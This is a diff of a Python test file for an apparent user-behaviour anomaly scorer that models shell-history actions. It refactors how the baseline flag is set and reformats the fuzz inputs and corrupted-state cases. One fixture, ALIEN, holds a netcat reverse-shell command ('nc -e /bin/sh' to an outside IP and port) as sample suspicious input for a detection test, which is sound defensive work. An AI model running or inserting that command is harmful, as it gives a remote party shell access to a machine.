@@ -19,9 +19,9 @@ if TYPE_CHECKING:
 ALIEN = {"username": "alice", "command": "nc -e /bin/sh 203.0.113.9 4444"}
 
 
-def act(user: str = "alice", host: str = "ws1", *, baseline: bool = False, **columns: str) -> Action:
+def act(user: str = "alice", host: str = "ws1", **columns: str) -> Action:
     """Make an action."""
-    return Action(1_793_600_000, host, user, "shell_history", "added", columns, baseline)
+    return Action(1_793_600_000, host, user, "shell_history", "added", columns)
 
 
 def test_a_user_without_a_model_gets_a_record_without_a_score(models: Path) -> None:
@@ -86,7 +86,7 @@ def test_baseline_is_shown_and_not_judged(
     plain, mixed = scorer(trained.models), scorer(trained.models)
     for action in actions[100:160]:
         expected = plain.score("1", action)
-        row = mixed.score("0", act(action.user, baseline=True, **ALIEN))
+        row = mixed.score("0", msgspec.structs.replace(act(action.user, **ALIEN), baseline=True))
         assert row is not None
         assert (row.score, row.surprise, row.reasons) == (None, None, ())
         assert row.model.state == "ready"
@@ -137,7 +137,9 @@ def test_any_action_can_be_scored(trained: Trained, scorer: Callable[[Path], Sco
         act(),
         act(**{"": "", "\0": "\ud800", "path": "x" * 100_000}),
         Action(0, "", "alice", "", "", {}),
-        Action(253_402_300_799, "h" * 10_000, "alice", "q" * 10_000, "removed", {str(n): str(n) for n in range(2000)}),
+        Action(
+            253_402_300_799, "h" * 10_000, "alice", "q" * 10_000, "removed", {str(n): str(n) for n in range(2000)}
+        ),
     ]
     for action in odd * 60:
         score = mine.score("1", action)
@@ -149,14 +151,24 @@ def test_any_action_can_be_scored(trained: Trained, scorer: Callable[[Path], Sco
 
 def states(saved: dict[str, object]) -> Iterator[dict[str, object]]:
     """Yield saved states that something has happened to."""
-    for user in ([], None, 5, "x", {}, {"model": None}):
+    damaged: list[object] = [[], None, 5, "x", {}, {"model": None}]
+    for user in damaged:
         yield {"alice": user}
     good = saved["alice"]
     assert isinstance(good, dict)
     yield {"alice": {**good, "model": ["LSTM", 1, "another log"]}}
     yield {"alice": {**good, "risk": "high"}}
     yield {"alice": {**good, "risk": []}}
-    for state in (None, [], {}, {"window": None}, {"window": [[5000]]}, {"window": [[-1]]}, {"hidden": [1.0]}):
+    unfit: list[object] = [
+        None,
+        [],
+        {},
+        {"window": None},
+        {"window": [[5000]]},
+        {"window": [[-1]]},
+        {"hidden": [1.0]},
+    ]
+    for state in unfit:
         yield {"alice": {**good, "state": state}}
 
 
